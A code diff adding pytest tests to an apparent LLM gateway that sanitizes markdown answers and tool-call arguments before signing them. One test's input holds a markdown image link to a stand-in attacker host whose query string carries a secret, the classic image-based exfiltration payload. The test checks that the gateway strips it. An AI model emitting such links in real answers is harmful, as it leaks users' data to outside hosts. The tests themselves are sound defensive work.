@@ -15,6 +15,8 @@ import pytest
 from gateway_kit import MESSAGES, Connection, chat, check_released, desk, request, sim, text_of, wait_for
 
 from apostille.core.canon import canonicalize, profile_id
+from apostille.core.canon.policy import Policy
+from apostille.faces.gateway.cleaning import Cleaning
 from apostille.faces.gateway.wire import Limits
 
 
@@ -160,6 +162,42 @@ def test_every_kind_of_part(here):
     }
     assert messages[1]["refusal"] == "No."
     assert leaf.attributes["finish"] == ["stop", "stop", "tool_calls"]
+
+
+@pytest.mark.parametrize("streamed", [False, True])
+def test_answers_that_are_drawn_as_markdown(tmp_path, streamed):
+    cleaning = Cleaning("text/markdown", "strict", Policy(image_hosts=("img.example.com",)))
+    said = (
+        "See ![a](https://img.example.com/a.png) ![b](https://evil.example/b.png?d=secret) <!-- note -->here.  \n"
+        "\u201cDone\u201d `a\u200bb`"
+    )
+    arguments = json.dumps({"a": "\u201cx\u201d ![b](https://evil.example/b.png)"}, ensure_ascii=False)
+    pieces = [sim.delta(role="assistant", content=said[:30]), sim.delta(content=said[30:])]
+    called = {"index": 0, **sim.call("f", arguments)}
+    with desk(tmp_path, cleaning=cleaning) as here:
+        here.upstream.script(
+            sim.events(*pieces, sim.delta(tool_calls=[called]), sim.delta(finish="tool_calls"))
+            if streamed
+            else sim.tools(sim.call("f", arguments), content=said)
+        )
+        leaf = check_released(here, chat(here, stream=streamed))
+    assert leaf.statement.predicate["profile"] == cleaning.id
+    assert "apostille-strict/1" in cleaning.id and "markdown=" in cleaning.id and "policy=" in cleaning.id
+    text, sent = leaf.content("part/choice/0/text"), leaf.content("part/choice/0/arguments/0")
+    assert b"img.example.com/a.png" in text and b"secret" not in text and b"note" not in text and b"a\xe2\x80\x8bb" in text
+    # What a recipient computes again from the id that was signed, and from the media type of each part, is what was sent.
+    for raw, clean, media_type in ((said, text, "text/markdown"), (arguments, sent, "application/json")):
+        again = canonicalize(raw, media_type=media_type, profile="strict", policy=cleaning.policy)
+        assert (again.bytes, cleaning.id.startswith(again.profile)) == (clean, True)
+    assert leaf.attributes["parts"][0]["media_type"] == "text/markdown"
+
+
+def test_markdown_that_is_refused_does_not_leave(tmp_path):
+    with desk(tmp_path, cleaning=Cleaning("text/markdown")) as here:
+        here.upstream.script(sim.whole(sim.completion([sim.choice("> " * 100 + "deep")])))
+        response = chat(here)
+        assert (response.status, response.error["type"]) == (502, "apostille_error")
+        assert here.output().statement.predicate["outcome"] == "upstream_error"
 
 
 def test_log_probabilities_are_null_and_listed(here):
